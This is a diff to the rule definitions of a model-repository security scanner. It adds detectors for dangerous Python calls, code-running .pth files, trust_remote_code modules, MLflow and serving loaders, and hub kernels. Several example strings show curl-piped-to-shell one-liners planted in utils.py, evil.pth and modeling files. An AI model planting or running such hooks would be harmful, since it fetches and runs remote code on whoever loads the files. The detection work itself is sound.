@@ -2,8 +2,10 @@
 
 Limits and unanalysed content (``SCAN-*``), names that disagree with content (``FORMAT-*``),
 archive hygiene shared by zip, tar and 7z (``ARCHIVE-*``), zip-reader differentials
-(``ZIP-*``), NumPy headers (``NUMPY-*``) and TorchScript sources (``TORCHSCRIPT-*``). Handlers
-import the rule objects from here and build findings with :meth:`Rule.finding`.
+(``ZIP-*``), NumPy headers (``NUMPY-*``), TorchScript sources (``TORCHSCRIPT-*``), the
+per-format rules, Python source and ``.pth`` files (``PYTHON-*``, ``PTH-*``) and what the
+repository pass finds in a scanned folder (``REPO-*``, ``MLFLOW-*``). Handlers import the rule
+objects from here and build findings with :meth:`Rule.finding`.
 """
 
 from __future__ import annotations
@@ -1271,5 +1273,216 @@ SKOPS_NOT_ZIP = register_rule(
         "the extension never sees the pickle.",
         example="A joblib pickle saved as `model.skops`.",
         references=("CVE-2025-54886", "CWE-502", _SKOPS),
+    )
+)
+
+
+# ---- Python source, .pth files and model repositories ---------------------------------------
+
+_HF_REMOTE_CODE = "https://huggingface.co/docs/transformers/en/custom_models"
+_SITE = "https://docs.python.org/3/library/site.html"
+_MLFLOW_MODELS = "https://mlflow.org/docs/latest/models.html"
+_REACH_SEVERITIES = (
+    "Severity follows what the code reaches for, found with Python's own parser (`ast`, "
+    "never running it) through its imports and aliases: high when it runs processes or "
+    "code (`os.system`, `subprocess`, `exec`/`eval`/`compile`, building functions from code "
+    "objects), opens network connections, loads native code (`ctypes`, "
+    "`torch.ops.load_library`) or fetches code (`torch.hub.load`); medium when it "
+    "deserialises (`pickle.load`, `torch.load` without `weights_only=True`), imports modules "
+    "by computed names, downloads files, deletes files, or loads more remote code "
+    "(`trust_remote_code=True`); low otherwise. Names of other modules count through the "
+    "policy's `[callables] deny` entries."
+)
+
+PYTHON_DANGEROUS_CALL = register_rule(
+    Rule(
+        id="PYTHON-DANGEROUS-CALL",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Python source runs processes or code, or opens connections",
+        what="Reports a file whose content is Python source (recognised by content: `.py` "
+        "or not) that calls, or hands to a call, a name that runs processes or code, opens "
+        "network connections or loads native code, with each name and line as evidence. "
+        "The source is parsed with `ast` and never run; names are resolved through imports, "
+        "`getattr` with literal names, `__import__`, simple assignments and code handed to "
+        "`exec` as a (base64, hex, rot13...) literal. Long string constants are searched "
+        "for hidden pickles. Medium: a script in a model folder runs only when someone runs "
+        "or imports it; when a loader of the folder imports it, the repository findings "
+        "(`REPO-REMOTE-CODE`, `REPO-LOADER-CODE`, `MLFLOW-LOADER-CODE`) say so, at high.",
+        why="Model weights need no process, shell or socket. A script that calls them beside "
+        "a model is either tooling a reviewer should know about or the payload of a "
+        "repository that gets it imported (custom code, a start-up hook, a serving "
+        "handler).",
+        example='`utils.py` holding `import subprocess; subprocess.run("curl x | sh", '
+        "shell=True)`.",
+        references=("CWE-94", "CWE-78", "https://docs.python.org/3/library/ast.html"),
+    )
+)
+
+PTH_CODE = register_rule(
+    Rule(
+        id="PTH-CODE",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Python path-configuration (.pth) file runs code at interpreter start-up",
+        what="Reports a `.pth` path-configuration file, recognised by content wherever it "
+        "stands (a line that `site` executes, `import ...`, doing more than importing, every "
+        "other line a path or a comment), or a file named `.pth` whose content is Python. "
+        "Each line that starts with `import` is analysed as Python. High when a line runs "
+        "processes or code, opens connections, loads native code, deserialises or imports "
+        "by computed name; medium for a file named `.pth` whose lines run other statements "
+        "(low for text not named `.pth`); low for plain imports of modules outside the "
+        "standard library. Path-only files and imports of the standard library are not "
+        "reported.",
+        why="Python's `site` module executes every line starting with `import` of each "
+        "`.pth` file in `site-packages` at every interpreter start-up, before any program "
+        "runs: a `.pth` file that lands there (an archive extracted into an environment, a "
+        "wheel, a copied folder) is a persistent hook in every Python process.",
+        example="`evil.pth` holding `import os; os.system('curl http://x | sh')`.",
+        references=(_SITE, "https://attack.mitre.org/techniques/T1546/018/", "CWE-94"),
+    )
+)
+
+REPO_REMOTE_CODE = register_rule(
+    Rule(
+        id="REPO-REMOTE-CODE",
+        pillar="scan",
+        severity=Severity.LOW,
+        title="Python module that trust_remote_code imports",
+        what="In a directory laid out as a Hugging Face repository, reports each Python "
+        "module that a loader imports when the user passes `trust_remote_code=True`: the "
+        "`auto_map` entries of `config.json`, `tokenizer_config.json` and the processor and "
+        "feature-extractor configs (`AutoModel: modeling_x.XModel`), `custom_pipelines`, "
+        "diffusers components in `model_index.json` whose library is a module of the "
+        "repository, and sentence-transformers modules in `modules.json` whose type is not "
+        "the library's own; the modules they import relatively (`from .utils import x`) "
+        "are followed, as transformers copies them. The finding is on the module, with the "
+        "configuration file and key as evidence. " + _REACH_SEVERITIES,
+        why="`trust_remote_code=True` imports these files into the loading process: they "
+        "are code by design, and a reviewer must read them before anyone loads the "
+        "repository. The rule makes them visible (low) and raises them when the code does "
+        "what a model needs not do.",
+        example='`config.json` with `"auto_map": {"AutoModel": "modeling_x.XModel"}` and '
+        '`modeling_x.py` calling `os.system("curl ... | sh")` (high).',
+        references=(_HF_REMOTE_CODE, "CWE-94", "CWE-829"),
+    )
+)
+
+REPO_LOADER_CODE = register_rule(
+    Rule(
+        id="REPO-LOADER-CODE",
+        pillar="scan",
+        severity=Severity.LOW,
+        title="Python file that a serving or hub loader runs by convention",
+        what="Reports Python files that a loader runs because of where they stand: "
+        "`hubconf.py` (`torch.hub.load`), `handler.py` beside a model (Hugging Face "
+        "Inference Endpoints custom handlers), `code/inference.py` (SageMaker model "
+        "archives), and the handler and model files named by a TorchServe "
+        "`MAR-INF/MANIFEST.json`. " + _REACH_SEVERITIES,
+        why="Serving stacks import these files to serve the model; whoever controls the "
+        "repository controls the code the server runs.",
+        example="`hubconf.py` defining an entry point that calls `subprocess.run` (high).",
+        references=(
+            "https://pytorch.org/docs/stable/hub.html",
+            "https://huggingface.co/docs/inference-endpoints/guides/custom_handler",
+            "https://pytorch.org/serve/custom_service.html",
+            "CWE-94",
+        ),
+    )
+)
+
+MLFLOW_LOADER_CODE = register_rule(
+    Rule(
+        id="MLFLOW-LOADER-CODE",
+        pillar="scan",
+        severity=Severity.LOW,
+        title="Code that an MLflow flavor runs when the model is loaded",
+        what="In an MLflow model directory (`MLmodel`), reports what `mlflow.pyfunc.load_model` "
+        "and the flavors run: a `loader_module` that is not one of MLflow's own flavors "
+        "(imported from the model's `code/` directory or from the environment), the Python "
+        "files of `code` (`code_paths`), which MLflow puts first on `sys.path` after removing "
+        "their names from `sys.modules`, a `python_model` (a cloudpickled `PythonModel`, "
+        "whose pickle findings are on the file itself, or a models-from-code script), and "
+        "the pickled model files flavors unpickle. High when the code reaches for processes, "
+        "code or the network, when a `code/` module shadows a standard-library module "
+        "(`code/json.py` runs on the next `import json`), or when a pickle it loads has "
+        "findings at high or above; " + _REACH_SEVERITIES[0].lower() + _REACH_SEVERITIES[1:],
+        why="Loading an MLflow model imports the loader module and unpickles its data: a "
+        "model uploaded to a registry runs its code on whoever loads it (CVE-2024-37054 and "
+        "its siblings for the other flavors).",
+        example="`MLmodel` with `loader_module: my_loader` and `code/my_loader.py` calling "
+        "`os.system`; a `python_model.pkl` whose pickle builds functions from bytecode.",
+        references=(
+            _MLFLOW_MODELS,
+            "CVE-2024-37054",
+            "CVE-2024-37052",
+            "CVE-2024-37059",
+            "CWE-502",
+            "CWE-94",
+        ),
+    )
+)
+
+REPO_EXTERNAL_CODE = register_rule(
+    Rule(
+        id="REPO-EXTERNAL-CODE",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Loader configuration names code that is not in the directory",
+        what="Reports loader configuration that makes a load fetch or import code the scan "
+        "could not read: `auto_map` (and `custom_pipelines`) references to another "
+        "repository (`org/repo--modeling_x.XModel`), modules named by `auto_map`, "
+        "`model_index.json` or `modules.json` that the directory does not hold (a hub "
+        "download fetches them from the repository at load time), and MLflow "
+        "`loader_module`s outside MLflow that `code/` does not provide (imported from "
+        "whatever is installed).",
+        why="The code that runs is chosen by the configuration but lives elsewhere, "
+        "unpinned: it can change after the scan, and nothing here vouches for it. Scan the "
+        "other repository too, or pin and vendor the code.",
+        example='`"auto_map": {"AutoModel": "someone/other-repo--modeling.Model"}`',
+        references=(_HF_REMOTE_CODE, "CWE-829", "CWE-494"),
+    )
+)
+
+REPO_HUB_KERNEL = register_rule(
+    Rule(
+        id="REPO-HUB-KERNEL",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Configuration selects kernel code from a hub repository",
+        what="Reports keys of a model configuration, at any depth, that make transformers "
+        "load kernel code from a hub repository rather than from installed libraries: "
+        "`attn_implementation`, `_attn_implementation`, `_attn_implementation_internal` "
+        "(and the other `*_implementation` keys) whose value names a repository "
+        "(`kernels-community/flash-attn`, with or without a revision or a kernel name).",
+        why="Hub kernels are downloaded and loaded as native or Python code into the loading "
+        "process; a configuration that names one makes every load of the model fetch and "
+        "run code from that repository, whatever the user asked for.",
+        example='`config.json` with `"_attn_implementation": "someone/evil-kernels"`.',
+        references=(
+            "CVE-2026-4372",
+            "https://huggingface.co/docs/kernels",
+            "CWE-829",
+        ),
+    )
+)
+
+REPO_NOT_ANALYSED = register_rule(
+    Rule(
+        id="REPO-NOT-ANALYSED",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Loader configuration or the code it names could not be analysed",
+        what="Reports a loader configuration of a scanned directory (`config.json` and the "
+        "other Hugging Face configs, `MLmodel`, `modules.json`, `model_index.json`, a "
+        "TorchServe manifest) that could not be read, or a Python file a loader runs that "
+        "could not be parsed (invalid for this Python, above `limits.max_source_bytes`, "
+        "unreadable), or more loader entries than are followed. The directory is marked as "
+        "not fully analysed.",
+        why="Which code a load runs is decided by these files; what could not be read cannot "
+        "be called safe.",
+        example="`MLmodel` that is not valid YAML; `modeling_x.py` written for a newer Python.",
+        references=("CWE-693",),
+        incomplete=True,
     )
 )
